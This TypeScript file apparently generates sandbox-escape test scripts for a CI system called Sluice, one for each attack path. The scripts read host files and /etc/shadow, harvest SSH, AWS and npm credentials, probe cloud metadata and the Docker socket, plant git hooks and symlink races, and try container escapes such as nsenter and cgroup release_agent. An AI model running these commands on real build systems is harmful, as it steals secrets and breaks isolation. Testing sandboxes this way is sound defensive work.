import type { Victim } from './victim.ts';

/** What an attack may aim at. */
export type Aim = Pick<Victim, 'files' | 'repository' | 'port' | 'sockets' | 'untouched' | 'few'> & {
  /** Sluice's own data. */
  readonly home: string;
};

/*
 * Scripts of a fork: by name, what a job runs that the pipeline of the base lets run. Whatever they get hold of they print, and
 * put into what the job keeps: the folder `dist`, the cache `cache`, outputs and the summary.
 */

/** All of them: at least 100. */
export function attackScripts(aim: Aim): Readonly<Record<string, string>> {
  // Those of rights come first: one of them stops its init, and lasts until the job's time is over.
  return { ...rights(), ...readers(aim), ...probes(aim), ...writers(aim), ...swaps(aim) };
}

/** One for each file, by every way to a file there is. */
function readers({ files }: Aim): Record<string, string> {
  return Object.fromEntries(
    files.map((path, index) => [
      `read-${index}`,
      `for p in '${path}' '/proc/1/root${path}' '/proc/self/root${path}' '../../../../../../../..${path}' 'links/${index}'; do
  cat "$p"; cp "$p" "dist/$(echo "$p" | tr / _)"; cp "$p" cache/; cat "$p" >> "$SLUICE_SUMMARY"
done
printf 'got=%s\\n' "$(cat '${path}')" >> "$SLUICE_OUTPUT"
ln '${path}' dist/hard; ln -s '${path}' dist/soft; ln -s '${path}' cache/soft; cp -rL links dist/copied`,
    ]),
  );
}

function probes({ port, sockets, repository, home }: Aim): Record<string, string> {
  const connect = (where: string) =>
    `perl -MSocket -e 'socket(my $s, ${where.startsWith('tcp') ? 'PF_INET' : 'PF_UNIX'}, SOCK_STREAM, 0); connect($s, ${
      where.startsWith('tcp')
        ? `pack_sockaddr_in(${port}, inet_aton("${where.slice(4)}"))`
        : `pack_sockaddr_un("${where}")`
    }) or die $!; print while <$s>' | tee dist/got`;
  return {
    'env-own': 'env | tee dist/env; export -p; set',
    'env-all': 'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < $f; done | tee dist/environ',
    'env-parents': 'cat /proc/1/environ /proc/$PPID/environ | tee dist/environ',
    'argv-all': 'for f in /proc/[0-9]*/cmdline; do tr "\\0" " " < $f; echo; done | tee dist/argv; ps auxeww',
    'fd-all': 'for f in /proc/[0-9]*/fd/*; do ls -l $f; timeout 1 head -c 4096 $f; done | tee dist/fds',
    'fd-own': 'for n in 3 4 5 6 7 8 9 10 11 12; do timeout 1 head -c 4096 <&$n; done | tee dist/fds',
    'memory-all':
      'for p in /proc/[0-9]*; do strings $p/mem; cat $p/maps; done | head -c 100000 | tee dist/memory',
    mounts:
      'cat /proc/mounts /proc/self/mountinfo | cut -d" " -f5 | while read d; do grep -rs CANARY "$d" --include=".*" | head; done',
    'search-root':
      'grep -rIs "CANARY-" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr | tee dist/found',
    'search-user': 'cat ~/.ssh/* ~/.aws/* ~/.netrc ~/.npmrc /root/.ssh/* /home/*/.ssh/* | tee dist/found',
    shadow: 'cat /etc/shadow /etc/sudoers | tee dist/shadow',
    'tcp-loopback': connect('tcp 127.0.0.1'),
    'tcp-any': connect('tcp 0.0.0.0'),
    'tcp-bash': `bash -c 'cat < /dev/tcp/127.0.0.1/${port}' | tee dist/got`,
    'tcp-curl': `curl -s --max-time 2 http://127.0.0.1:${port}/ http://localhost:${port}/ "http://[::ffff:7f00:1]:${port}/"`,
    metadata: 'curl -s --max-time 2 http://169.254.169.254/latest/meta-data/ | tee dist/meta',
    'socket-path': connect(sockets[0]!),
    'socket-abstract': connect(sockets[1]!),
    'socket-list': 'cat /proc/net/unix /proc/net/tcp | tee dist/net; ls -l /run /var/run /tmp',
    'docker-socket':
      'curl -s --max-time 2 --unix-socket /var/run/docker.sock http://x/info | tee dist/docker',
    'git-objects': `git -C '${repository}' log --all -p | tee dist/log; git log --all -p; git -C '${repository}' show private:plans.txt`,
    'git-config': `cat '${repository}/.git/config' .git/config .git | tee dist/config; git config --list`,
    'git-alternates': 'cat "$(sed s/gitdir:.//  .git)/objects/info/alternates" | tee dist/objects',
    journal: `cp '${home}/store/journal.db' dist/; cat '${home}'/logs/*/*/* | tee dist/logs`,
    storage: `cp -r '${home}/storage' dist/; ls -R '${home}' | tee dist/home`,
    workspaces: `ls -R ../.. ../../..; cat ../../.source/source/* ../../../*/*/work/* | tee dist/others`,
    key: 'cat ~/.config/sluice/key "$XDG_CONFIG_HOME/sluice/key" | tee dist/key',
    'step-files': 'cat ../* | tee dist/step-files; ls -la ..',
    'package-json': 'npm run test --silent; npm install --silent; cat ~/.npmrc',
    makefile: 'make steal',
    dns: 'getent hosts proxy.invalid; getent hosts localhost',
    keyring: 'cat /proc/keys; keyctl show',
    devices: 'for d in /dev/sda /dev/vda /dev/nvme0n1 /dev/mem /dev/kmem; do head -c 4096 $d; done | strings',
    templates:
      'printf "title=%s\\n" "\\${{ secrets.NPM_TOKEN }} \\${{ env.AWS_SECRET_ACCESS_KEY }}" >> "$SLUICE_OUTPUT"',
    directives:
      'echo "::add-path::/tmp"; echo "::set-env name=LD_PRELOAD::x"; printf "LD_PRELOAD=/tmp/x\\nBASH_ENV=/tmp/x\\n" >> "$SLUICE_ENV"',
  };
}

/** Each tries to leave something outside, where somebody might run or read it. */
function writers({ untouched, repository, home }: Aim): Record<string, string> {
  const places = [
    ...untouched,
    `${repository}/.git/hooks`,
    `${repository}/.git`,
    `${untouched[0]}/.ssh`,
    `${home}/store`,
    `${home}/storage`,
    `${home}/plans`,
    `${home}/steps`,
    `${home}/workspaces`,
  ];
  const all = places.map((place, index) => [
    `write-${index}`,
    `mkdir -p '${place}'; echo pwned > '${place}/PWNED'; cp attack.sh '${place}/post-checkout'; ln -s '${place}' into; echo pwned > into/PWNED
echo pwned > '/proc/1/root${place}/PWNED'; cp -r dist '${place}/PWNED.d'; chmod -R 777 '${place}'; rm -rf '${place}'`,
  ]);
  return {
    ...Object.fromEntries(all),
    'git-hooks': `git -C '${repository}' config core.hooksPath "$PWD"; git -C '${repository}' commit --allow-empty -m x; printf '#!/bin/sh\\necho x' > '${repository}/.git/hooks/pre-commit'`,
    'git-fsmonitor': `rm -rf .git; git init -q .; git config core.fsmonitor "touch '${untouched[0]}/PWNED'"; git config core.hooksPath "$PWD"; git add -A`,
    'git-filter': `printf '* filter=evil\\n' > .gitattributes; git init -q .; git config filter.evil.smudge "touch '${untouched[0]}/PWNED'"; git add -A`,
    'git-fetch': `git fetch "ext::sh -c touch% ${untouched[0]}/PWNED"; git clone "ext::sh -c id" x`,
    daemon: `(setsid sh -c 'for i in 1 2 3 4 5; do sleep 1; cat /etc/shadow >> dist/late; done' >/dev/null 2>&1 &)`,
  };
}

/** What is kept is put out of the way, and something of the machine into its place. */
function swaps({ untouched, files, few }: Aim): Record<string, string> {
  // Never a folder of the machine itself: what follows a link here removes and overwrites what it leads to.
  const targets = [...untouched, `/proc/1/root${untouched[0]}`, few];
  const made = targets.flatMap((target, index) => [
    [`swap-work-${index}`, `w="$PWD"; cd ..; mv "$w" "$w.old"; ln -s '${target}' "$w"`],
    [`swap-dist-${index}`, `rm -rf dist cache; ln -s '${target}' dist; ln -s '${target}' cache`],
    [
      `swap-inner-${index}`,
      `rm -rf dist/in; ln -s '${target}' dist/in; ln -s '${target}' cache/in; mkfifo dist/fifo`,
    ],
    [
      `swap-race-${index}`,
      `(setsid sh -c 'while :; do mv dist d2; ln -s "${target}" dist; rm dist; mv d2 dist; done' >/dev/null 2>&1 &); sleep 0.2`,
    ],
  ]);
  const asked = ['SLUICE_OUTPUT', 'SLUICE_ENV', 'SLUICE_PATH', 'SLUICE_SUMMARY'].map((name, index) => [
    `swap-${name.toLowerCase()}`,
    `rm -f "$${name}"; ln -s '${files[index]!}' "$${name}"`,
  ]);
  return Object.fromEntries([...made, ...asked]);
}

function rights(): Record<string, string> {
  const tries = [
    'unshare -Ur cat /etc/shadow',
    'unshare -rm sh -c "mount --bind / /mnt; cat /mnt/etc/shadow"',
    'mount -o remount,rw /; echo x > /PWNED',
    'mount -t proc proc /tmp; cat /tmp/*/environ',
    'mknod /tmp/d b 8 0; head -c 512 /tmp/d',
    'chroot /proc/1/root cat /etc/shadow',
    'nsenter -t 1 -m -u -i -n -p cat /etc/shadow',
    'kill -9 -1; kill -9 $PPID',
    'p=$(cat /proc/sys/kernel/core_pattern); echo "$p" > /proc/sys/kernel/core_pattern',
    'cat /proc/sys/kernel/sysrq > /proc/sys/kernel/sysrq; echo h > /proc/sysrq-trigger',
    'for f in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/release_agent; do echo /tmp/x > $f; done',
    'cp /bin/sh /tmp/s; chmod 4755 /tmp/s; /tmp/s -p -c "cat /etc/shadow"; cp /bin/sh dist/s; chmod 6755 dist/s',
    'perl -e \'require "syscall.ph"; syscall(101, 16, 1, 0, 0)\'; gdb -p 1 -batch',
    'bwrap --dev-bind / / cat /etc/shadow',
    'capsh --print; setpriv --reuid 0 cat /etc/shadow; su -c "cat /etc/shadow"; sudo -n cat /etc/shadow',
    'perl -e \'ioctl(STDIN, 0x5412, my $c = "x") and print "typed"\'',
  ];
  return Object.fromEntries(tries.map((script, index) => [`rights-${index}`, script]));
}
